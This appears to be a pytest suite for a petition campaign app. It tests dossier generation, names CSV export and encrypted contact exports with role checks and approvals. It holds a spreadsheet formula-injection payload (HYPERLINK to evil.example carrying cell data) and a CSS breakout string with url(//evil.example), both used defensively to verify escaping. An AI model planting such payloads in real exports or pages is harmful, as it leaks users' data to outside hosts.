"""What is handed in: the dossier, the names as a table, and the contacts, which only one key opens."""

import csv
import io
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from uuid import uuid4

import pyrage
import pytest
import time_machine
from flask import Flask
from flask.testing import FlaskClient
from playwright.sync_api import Page
from sqlalchemy import select
from werkzeug.serving import make_server
from werkzeug.test import TestResponse

from campaign import clock
from campaign.campaigns.models import Campaign
from campaign.csv_out import BOM, harmless
from campaign.db import db
from campaign.delivery import queries, tasks
from campaign.delivery.dossier import running
from campaign.delivery.operations import public_key, suggested_letter
from campaign.delivery.queries import EXPORT_LASTS, shown_names
from campaign.errors import Refusal
from campaign.importing import import_campaign
from campaign.mailing.models import Reader
from campaign.mailing.operations import suppress
from campaign.opening import Keyring
from campaign.organizers.models import AuditEntry, Errand, ErrandState, Role
from campaign.organizers.queries import membership, open_approvals
from campaign.organizers.tasks import run_errands
from campaign.sealing import EmailAddress, binding
from campaign.signing.invalidating.models import Invalidation
from campaign.signing.models import Appear, Signature, SignatureState, initials, new_secret
from campaign.statements.models import Statement, StatementState
from campaign.statements.operations import EndorsementDraft, add_endorsement
from campaign.worker import ERRANDS
from tests.organizers_in import Organizers, token_in
from tests.servers import LOOPBACK, free_port
from tests.stack import Stack

OK, SEE_OTHER, FORBIDDEN, NOT_FOUND, GONE, UNFIT = 200, 303, 403, 404, 410, 422
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'

on_sqlite = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
pytestmark = pytest.mark.usefixtures("stack")


# People


@pytest.fixture
def campaign(app: Flask) -> Campaign:
    """The campaign of the installation."""
    return db.session.get_one(Campaign, 1)


def signer(keys: Keyring, name: str, campaign_id: int = 1, **facts: object) -> Signature:
    """Somebody who confirmed, and whose name is shown as they chose."""
    address = EmailAddress.parse(f"{uuid4().hex[:12]}@signers.example.org")
    fingerprint, (secret, commitment), now = keys.fingerprint(address, campaign_id), new_secret(), clock.now()
    sealed = keys.sealer.seal(str(address).encode(), binding("reader", campaign_id, fingerprint))
    reader = Reader(
        campaign_id=campaign_id, sealed_address=sealed, fingerprint=fingerprint,
        locale="en", news="all", created_at=now, confirmed_at=now,
    )  # fmt: skip
    private = json.dumps({"name": name, "city": "Leeds", "affiliation": "", "statement": ""}).encode()
    given_facts = {"appear": Appear.NAME, "country": "GB", "state": SignatureState.CONFIRMED, **facts}
    shown = {Appear.NAME: name, Appear.INITIALS: initials(name), Appear.COUNT: None}[given_facts["appear"]]  # type: ignore[index]
    signature = Signature(
        campaign_id=campaign_id, reader=reader, news="all", locale="en",
        sealed=keys.sealer.seal(private, binding("signer", campaign_id, commitment)),
        is_veiled=False, public_name=shown, secret=secret, commitment=commitment, signed_at=now,
        confirmed_at=now, **given_facts,
    )  # fmt: skip
    db.session.add(signature)
    db.session.flush()
    return signature


def another_campaign() -> Campaign:
    """A second one."""
    text = {"title": "Another", "summary": "Another.", "body": "Another.", "demands": ["Another."]}
    facts = {"slug": "another", "language": "en", "state": "open", "goal": 10, "texts": {"en": text}}
    return import_campaign(facts, clock.now())


def acts() -> list[str]:
    """What the log says was done, the oldest first."""
    return list(db.session.scalars(select(AuditEntry.act).order_by(AuditEntry.id)))


def post(client: FlaskClient, path: str, page: str, **typed: str) -> TestResponse:
    """Open a page and send a form from it."""
    token = token_in(client.get(page).get_data(as_text=True))
    return client.post(path, data={"csrf_token": token, **typed}, buffered=True)


def ask_for_dossier(client: FlaskClient, campaign_id: int = 1, **typed: str) -> TestResponse:
    """Make a dossier."""
    page = f"/console/{campaign_id}/delivery/"
    chosen = {"locale": "en", "country": "all", "cover_letter": "Dear Ambassador", "has_names": "y", "statements": "6"}
    return post(client, page, page, **{name: text for name, text in (chosen | typed).items() if text})


# The dossier


def test_a_dossier_from_the_form_to_the_sheet(app: Flask, keys: Keyring, organizers: Organizers) -> None:
    """Letter, text, numbers, organisations, words, names as chosen, ledger; noted in the log; kept for next time."""
    ada = signer(keys, "Ada <b>Example")
    signer(keys, "Rosa Luxemburg", appear=Appear.INITIALS, country="DE")
    signer(keys, "Secret Hidden", appear=Appear.COUNT)
    signer(keys, "Not Counted", state=SignatureState.INVALIDATED)
    taken = Invalidation(campaign_id=1, kind="forged", reason="Many at once", criteria={}, by="Ada", at=clock.now())
    taken.taken = 1
    db.session.add(taken)
    union = EndorsementDraft("Union of Nurses", "KE", 1200, "Wanjiru, secretary", statement={"en": "Let him go."})
    add_endorsement(1, union, clock.now())
    words = {"state": StatementState.PUBLISHED, "made_at": clock.now(), "published_at": clock.now()}
    db.session.add(Statement(campaign_id=1, signature=ada, body="You are not forgotten.", locale="en", **words))
    client = organizers.as_role(Role.EDITOR, 1)
    index = client.get("/console/1/delivery/").text
    assert "Dear Sir or Madam," in index
    assert "- Set him free." in index

    made = ask_for_dossier(client, cover_letter="Dear **Ambassador**")
    assert (made.status_code, made.location) == (SEE_OTHER, "/console/1/delivery/dossier/1/")
    answer = client.get(made.location, buffered=True)
    page = " ".join(answer.text.split())
    for said in (
        "Dear <strong>Ambassador</strong>", "Government of Testland", "Nobody says where he is.", "Set him free.",
        "Union of Nurses", "1,200 members", "Wanjiru, secretary", "You are not forgotten.", "Ada &lt;b&gt;Example",
        "R. L.", "Germany", "and 1 who appears only in the count.", "3 signatures in all.", "Many at once",
    ):  # fmt: skip
        assert said in page, said
    for unsaid in ("Secret", "Not Counted", "Luxemburg", "signers.example.org", "<b>Example"):
        assert unsaid not in page, unsaid
    assert answer.headers["Cache-Control"] == "no-store"
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    assert acts()[-1] == "dossier.made"
    assert "Dear **Ambassador**" in client.get("/console/1/delivery/").text


def test_of_one_country_or_without_names(keys: Keyring, organizers: Organizers) -> None:
    """Only its names and its number; or no names at all."""
    signer(keys, "Ada Example")
    signer(keys, "Hans Beispiel", country="DE")
    client = organizers.as_role(Role.OWNER, 1)
    one = client.get(ask_for_dossier(client, country="DE").location, buffered=True).text
    assert "Hans Beispiel" in one
    assert "Ada Example" not in one
    assert "signatures from Germany" in one
    assert "who appear" not in one
    none = client.get(ask_for_dossier(client, has_names="").location, buffered=True).text
    assert "Hans Beispiel" not in none
    assert "Signatures by country" in none


@on_sqlite
def test_in_urdu(campaign: Campaign, keys: Keyring, organizers: Organizers) -> None:
    """The dossier speaks its own language, whatever the organizer speaks; the letter begins in it."""
    signer(keys, "Ada Example", country="DE")
    client = organizers.as_role(Role.OWNER, 1)
    page = client.get(ask_for_dossier(client, locale="ur").location, buffered=True).text
    assert '<html lang="ur" dir="rtl">' in page
    assert "رہا کرو" in page
    assert "جرمنی" in page
    assert "رہا کرو" in suggested_letter(campaign, "ur")


@on_sqlite
@pytest.mark.parametrize(
    "typed", [{"country": "FR"}, {"country": "../x"}, {"locale": "de"}, {"statements": "5000"}, {"cover_letter": " "}]
)
def test_what_does_not_fit_is_refused_and_kept(keys: Keyring, organizers: Organizers, typed: dict[str, str]) -> None:
    """422, nothing is made, and the letter is still there."""
    signer(keys, "Ada Example")
    client = organizers.as_role(Role.OWNER, 1)
    answer = ask_for_dossier(client, **{"cover_letter": "My own words", **typed})
    assert answer.status_code == UNFIT
    assert ("My own words" in answer.text) is ("cover_letter" not in typed)
    assert client.get("/console/1/delivery/dossier/1/").status_code == NOT_FOUND


@on_sqlite
def test_names_are_read_page_by_page(keys: Keyring, organizers: Organizers, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each once, in the order of signing, never more than a page at a time, with no transaction open in between."""
    monkeypatch.setattr(queries, "NAMES", 3)
    for number in range(8):
        signer(keys, f"Signer {number}")
    db.session.commit()
    sizes, names = [], []
    for page in shown_names(1, None):
        assert not db.session().in_transaction()
        sizes.append(len(page))
        names += [shown.name for shown in page]
    assert sizes == [3, 3, 2]
    assert names == [f"Signer {number}" for number in range(8)]
    client = organizers.as_role(Role.OWNER, 1)
    made = ask_for_dossier(client)
    assert re.findall(r"Signer \d", client.get(made.location, buffered=True).text) == names


@on_sqlite
def test_the_reader_of_a_dossier_can_leave_in_the_middle(app: Flask, keys: Keyring, organizers: Organizers) -> None:
    """A connection that breaks leaves no transaction behind."""
    for number in range(200):
        signer(keys, f"Signer {number} {'x' * 250}")
    client = organizers.as_role(Role.OWNER, 1)
    made = ask_for_dossier(client)
    environ = client._request_from_builder_args((made.location,), {"base_url": app.config["PUBLIC_URL"]}).environ
    client._add_cookies_to_wsgi(environ)
    chunks = app.wsgi_app(environ, lambda *_answer: lambda _bytes: None)
    next(iter(chunks))
    chunks.close()  # type: ignore[attr-defined]
    assert db.engine.pool.checkedout() <= 1  # type: ignore[attr-defined] - the test's own


@on_sqlite
def test_the_names_on_top_of_sheets_end_no_string() -> None:
    """A title cannot break out of the stylesheet that carries it."""
    sheet = running('Free "them"; } body { background: url(//evil.example) \\', "en")
    assert sheet.count('"') % 2 == 0
    assert "evil.example" not in sheet
    assert "url(" not in sheet
    assert "counter(page)" in sheet


# The table of names


def test_names_as_a_table(keys: Keyring, organizers: Organizers) -> None:
    """What people chose to show, harmless, in UTF-8 with its mark; by country, too; noted in the log."""
    signer(keys, FORMULA, city="کراچی")
    signer(keys, "Rosa Luxemburg", appear=Appear.INITIALS, country="DE")
    signer(keys, "Secret Hidden", appear=Appear.COUNT)
    client = organizers.as_role(Role.EDITOR, 1)
    names, page = "/console/1/delivery/names.csv", "/console/1/delivery/"
    answer = post(client, names, page, **{"names-country": "all"})
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="names-release-test.csv"'
    assert answer.data.startswith(BOM.encode())
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
    assert [row[:1] + row[2:5] for row in rows[1:]] == [
        [f"'{FORMULA}", "کراچی", "United Kingdom", "GB"],
        ["R. L.", "", "Germany", "DE"],
    ]
    german = post(client, names, page, **{"names-country": "DE"})
    assert german.headers["Content-Disposition"] == 'attachment; filename="names-release-test-DE.csv"'
    assert german.data.decode().count("\r\n") == 2
    assert acts()[-2:] == ["names.exported", "names.exported"]
    assert post(client, names, page, **{"names-country": "XX"}).status_code == UNFIT


# Contacts


CONTACTS = "/console/1/delivery/contacts/"


def ask_for_contacts(client: FlaskClient, key: str) -> TestResponse:
    """Ask for an export."""
    return post(client, CONTACTS, CONTACTS, key=key)


def agreeing(keys: Keyring) -> tuple[list[tuple[str, str]], list[str]]:
    """Two who agreed, with name and address; and the names of those who are not to be in an export."""
    agreed = [signer(keys, FORMULA, may_contact=True), signer(keys, "Nasim Q", may_contact=True, appear=Appear.COUNT)]
    left = signer(keys, "Left Again", may_contact=True)
    left.reader.unsubscribed_at = clock.now()
    bounced = signer(keys, "Bounced Off", may_contact=True)
    suppress(keys.suppression_key(address_of(bounced, keys)), "5.1.1", clock.now())
    signer(keys, "Never Agreed", may_contact=False)
    signer(keys, "Waits Still", may_contact=True, state=SignatureState.PENDING, appear=Appear.COUNT)
    signer(keys, "Taken Out", may_contact=True, state=SignatureState.INVALIDATED)
    signer(keys, "Signed Elsewhere", another_campaign().id, may_contact=True)
    db.session.commit()
    names = (FORMULA, "Nasim Q")
    pairs = [(name, str(address_of(one, keys))) for name, one in zip(names, agreed, strict=True)]
    return pairs, ["Left Again", "Bounced Off", "Never Agreed", "Waits Still", "Taken Out", "Signed Elsewhere"]


def address_of(signature: Signature, keys: Keyring) -> EmailAddress:
    """A signer's address."""
    return tasks.open_address(signature.reader, keys)


def test_contacts_reach_one_key_and_nobody_else(
    app: Flask, stack: Stack, keys: Keyring, organizers: Organizers, capfd: pytest.CaptureFixture[str], backend: str
) -> None:
    """Those who agreed, encrypted; once, for who asked; no address in the database, in answers, in logs."""
    agreed, others = agreeing(keys)
    owner, other = organizers.add("Sana", Role.OWNER, 1), organizers.add("Omar", Role.OWNER, 1)
    identity = pyrage.x25519.Identity.generate()
    client, second = organizers.client(owner), organizers.client(other)
    asked = ask_for_contacts(client, str(identity.to_public()))
    assert asked.status_code == SEE_OTHER
    waiting = client.get(asked.location)
    assert waiting.headers["Refresh"] == "2"
    run_errands(ERRANDS, keys)

    ready, seen, listed = client.get(asked.location), second.get(asked.location), second.get(CONTACTS)
    assert "It holds 2 contacts." in ready.text
    assert "Only Sana can take it." in seen.text
    assert "Asked for by Sana" in listed.text
    assert post(second, asked.location, CONTACTS).status_code == FORBIDDEN
    taken = post(client, asked.location, asked.location)
    assert taken.headers["Content-Disposition"] == 'attachment; filename="contacts-release-test.csv.age"'
    assert post(client, asked.location, CONTACTS).status_code == GONE
    assert "has been deleted here" in client.get(asked.location).text

    plain = pyrage.decrypt(taken.data, [identity]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(plain, newline="")))
    assert rows[0] == list(tasks.HEADER)
    assert [(row[0], row[1]) for row in rows[1:]] == [(harmless(name), address) for name, address in agreed]
    assert not [name for name in others if name in plain]
    assert [act for act in acts() if act.startswith("contacts.")] == [
        "contacts.asked", "contacts.made", "contacts.downloaded",
    ]  # fmt: skip
    needles = [address for _name, address in agreed] + ["Nasim Q"]
    haystack = [*(answer.data for answer in (asked, waiting, ready, seen, listed, taken)), "".join(capfd.readouterr())]
    if backend == "sqlite":
        db.session.commit()
        haystack += [path.read_bytes() for path in stack.instance.glob("campaign.sqlite*")]
    for text in haystack:
        content = text if isinstance(text, bytes) else text.encode()
        assert not [needle for needle in needles if needle.encode() in content]


def test_with_a_second_person(app: Flask, campaign: Campaign, keys: Keyring, organizers: Organizers) -> None:
    """Nothing is made before another grants it, who sees to which key; then who asked takes it."""
    agreed, _others = agreeing(keys)
    campaign.second_for_export = True
    asker = organizers.client(organizers.add("Sana", Role.OWNER, 1))
    second = organizers.client(organizers.add("Omar", Role.EDITOR, 1))
    identity = pyrage.x25519.Identity.generate()
    assert ask_for_contacts(asker, str(identity.to_public())).location == CONTACTS
    assert db.session.query(Errand).filter_by(kind="export_contacts").count() == 0
    assert str(identity.to_public()) in second.get("/console/1/delivery/").text
    approvals = "/console/1/approvals/"
    button = re.search(r'action="(/console/1/approvals/\d+)"', second.get(approvals).text)
    assert button is not None
    assert post(asker, button[1], approvals, answer="grant").status_code == FORBIDDEN
    assert post(second, button[1], approvals, answer="grant").status_code == SEE_OTHER
    run_errands(ERRANDS, keys)
    place = db.session.scalar(select(Errand.id).where(Errand.kind == "export_contacts"))
    taken = post(asker, f"{CONTACTS}{place}", f"{CONTACTS}{place}")
    assert pyrage.decrypt(taken.data, [identity]).decode().count("\r\n") == len(agreed) + 1
    assert {"contacts.asked", "contacts.granted", "contacts.made", "contacts.downloaded"} <= set(acts())


@on_sqlite
def test_what_is_granted_is_what_was_asked_for(campaign: Campaign, organizers: Organizers) -> None:
    """Another key, or an asker who is no owner any more: refused."""
    campaign.second_for_export = True
    asking = organizers.add("Sana", Role.OWNER, 1)
    second = organizers.client(organizers.add("Omar", Role.OWNER, 1))
    approvals = "/console/1/approvals/"
    for spoil in (_another_key, _no_owner):
        ask_for_contacts(organizers.client(asking), str(pyrage.x25519.Identity.generate().to_public()))
        page = second.get(approvals).text
        button = re.search(r'action="(/console/1/approvals/\d+)"', page)
        assert button is not None
        spoil(asking.id)
        answer = second.post(button[1], data={"csrf_token": token_in(page), "answer": "grant"})
        assert answer.status_code == UNFIT
        assert db.session.query(Errand).filter_by(kind="export_contacts").count() == 0


def _another_key(_organizer_id: int) -> None:
    (approval,) = open_approvals(1)
    approval.payload = {"key": str(pyrage.x25519.Identity.generate().to_public())}
    db.session.commit()


def _no_owner(organizer_id: int) -> None:
    member = membership(1, organizer_id)
    assert member is not None
    member.role = Role.EDITOR
    db.session.commit()


@on_sqlite
def test_a_key_that_is_none(app: Flask, organizers: Organizers) -> None:
    """Refused with what was typed; a secret key is refused with advice, and is not shown again."""
    client = organizers.as_role(Role.OWNER, 1)
    answer = ask_for_contacts(client, "age1nonsense")
    assert answer.status_code == UNFIT
    assert "age1nonsense" in answer.text
    secret = str(pyrage.x25519.Identity.generate())
    answer = ask_for_contacts(client, secret)
    assert answer.status_code == UNFIT
    assert "This is the secret key." in answer.text
    assert secret not in answer.text
    assert db.session.query(Errand).filter_by(kind="export_contacts").count() == 0
    with app.test_request_context(), pytest.raises(Refusal):
        public_key("ssh-ed25519 AAAA")


@on_sqlite
def test_an_export_goes_after_a_day(keys: Keyring, organizers: Organizers) -> None:
    """Taken or not."""
    agreeing(keys)
    account = organizers.add("Sana", Role.OWNER, 1)
    asked = ask_for_contacts(organizers.client(account), str(pyrage.x25519.Identity.generate().to_public()))
    run_errands(ERRANDS, keys)
    with time_machine.travel(clock.now() + EXPORT_LASTS):
        client = organizers.client(account)
        assert client.get(asked.location).status_code == NOT_FOUND
        assert post(client, asked.location, CONTACTS).status_code == NOT_FOUND


def test_an_errand_that_was_killed_is_done_from_the_start(
    keys: Keyring, organizers: Organizers, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The worker dies after each batch in turn: in the end everybody is there once, and the log says it once."""

    class Killed(BaseException):
        """As kill -9: nothing is cleaned up."""

    monkeypatch.setattr(tasks, "BATCH", 2)
    expected = {f"Signer {number}" for number in range(5)}
    for name in expected:
        signer(keys, name, may_contact=True)
    identity = pyrage.x25519.Identity.generate()
    account = organizers.add("Sana", Role.OWNER, 1)
    asked = ask_for_contacts(organizers.client(account), str(identity.to_public()))
    hold, alive = tasks.hold, iter([True, True, False, True, False])

    def hold_or_die(errand: Errand, done: int) -> None:
        hold(errand, done)
        if not next(alive, True):
            raise Killed

    monkeypatch.setattr(tasks, "hold", hold_or_die)
    for later in (0, 1):
        with time_machine.travel(clock.now() + later * EXPORT_LASTS / 24), pytest.raises(Killed):
            run_errands(ERRANDS, keys)
        db.session.rollback()
        assert db.session.scalar(select(Errand.file).where(Errand.kind == "export_contacts")) is None
    with time_machine.travel(clock.now() + EXPORT_LASTS / 12):
        run_errands(ERRANDS, keys)
        db.session.commit()
        client = organizers.client(account)
        taken = post(client, asked.location, asked.location)
    plain = pyrage.decrypt(taken.data, [identity]).decode("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(plain, newline=""))][1:]
    assert sorted(names) == sorted(expected)
    assert acts().count("contacts.made") == 1
    errand = db.session.scalars(select(Errand).where(Errand.kind == "export_contacts")).one()
    assert (errand.state, errand.sealed, errand.done, errand.total) == (ErrandState.DONE, None, 5, 5)


# Who may


@on_sqlite
def test_who_may(keys: Keyring, organizers: Organizers) -> None:
    """Strangers find nothing; moderators and translators are refused; contacts are for owners, freshly proven."""
    other = another_campaign()
    signer(keys, "Ada Example")
    owner = organizers.client(organizers.add("Sana", Role.OWNER, 1))
    ask_for_dossier(owner)
    ask_for_contacts(owner, str(pyrage.x25519.Identity.generate().to_public()))
    errand_id = db.session.scalar(select(Errand.id).where(Errand.kind == "export_contacts"))
    shared = ["", "dossier/1/", "dossier/1/running.css"]
    owners = ["contacts/", f"contacts/{errand_id}"]
    for role in (Role.MODERATOR, Role.TRANSLATOR):
        client = organizers.as_role(role, 1)
        for path in (*shared, *owners):
            assert client.get(f"/console/1/delivery/{path}").status_code == FORBIDDEN
    editor = organizers.as_role(Role.EDITOR, 1)
    assert [editor.get(f"/console/1/delivery/{path}").status_code for path in owners] == [FORBIDDEN] * 2
    stranger = organizers.as_role(Role.OWNER, other.id)
    for path in (*shared, *owners):
        assert stranger.get(f"/console/1/delivery/{path}").status_code == NOT_FOUND
    for path in ("dossier/1/", "dossier/1/running.css", f"contacts/{errand_id}"):
        assert stranger.get(f"/console/{other.id}/delivery/{path}").status_code == NOT_FOUND
    stale = organizers.client(organizers.add("Omar", Role.OWNER, 1), fresh=False)
    for path in owners:
        assert stale.get(f"/console/1/delivery/{path}").location.startswith("/console/verify")
    assert owner.post("/console/1/delivery/names.csv", data={"names-country": "all"}).status_code == FORBIDDEN


# On paper


@pytest.fixture
def served(app: Flask, keys: Keyring, organizers: Organizers) -> Iterator[tuple[str, FlaskClient]]:
    """The app at an address of the loopback, and a client that is signed in there."""
    port = free_port()
    app.config.update(SERVER_NAME=f"{LOOPBACK}:{port}", PUBLIC_URL=f"http://{LOOPBACK}:{port}")
    client = organizers.client(organizers.add("Sana", Role.OWNER, 1))
    for number in range(400):
        shows = Appear.NAME if number % 2 else Appear.INITIALS
        signer(keys, f"Signer {number}", appear=shows, country=("GB", "PK", "DE")[number % 3])
    db.session.commit()
    server = make_server(LOOPBACK, port, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://{LOOPBACK}:{port}", client
    server.shutdown()
    thread.join(10)
    server.server_close()


@on_sqlite
@pytest.mark.parametrize("locale", ["en", "ur"])
def test_printed(served: tuple[str, FlaskClient], page: Page, tmp_path: Path, locale: str) -> None:
    """A4, a cover of its own, several sheets, numbers on them; nothing too wide on a telephone."""
    url, client = served
    made = ask_for_dossier(client, locale=locale)
    (cookie,) = [one for one in client._cookies.values() if one.key == "campaign"]
    page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": url}])
    page.goto(f"{url}{made.location}")
    asked = [rule for rule in page.evaluate(MARGINS) if "counter(pages)" in rule]
    assert len(asked) == 1
    printed = page.pdf(prefer_css_page_size=True)
    boxes = re.findall(rb"/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]", printed)
    assert len(boxes) > 4
    assert {(round(float(wide)), round(float(high))) for wide, high in boxes} <= {(595, 842), (596, 842), (595, 841)}
    page.emulate_media(media="print")
    page.set_viewport_size({"width": 794, "height": 1123})
    cover = page.locator(".cover").bounding_box()
    assert cover is not None
    assert round(cover["height"]) == 1123
    assert page.locator(".how").is_hidden()
    assert page.locator(".names li").count() == 400
    page.emulate_media(media="screen")
    page.set_viewport_size({"width": 320, "height": 640})
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.locator(".how").is_visible()


MARGINS = "[...document.styleSheets].flatMap(sheet => [...sheet.cssRules].map(rule => rule.cssText))"
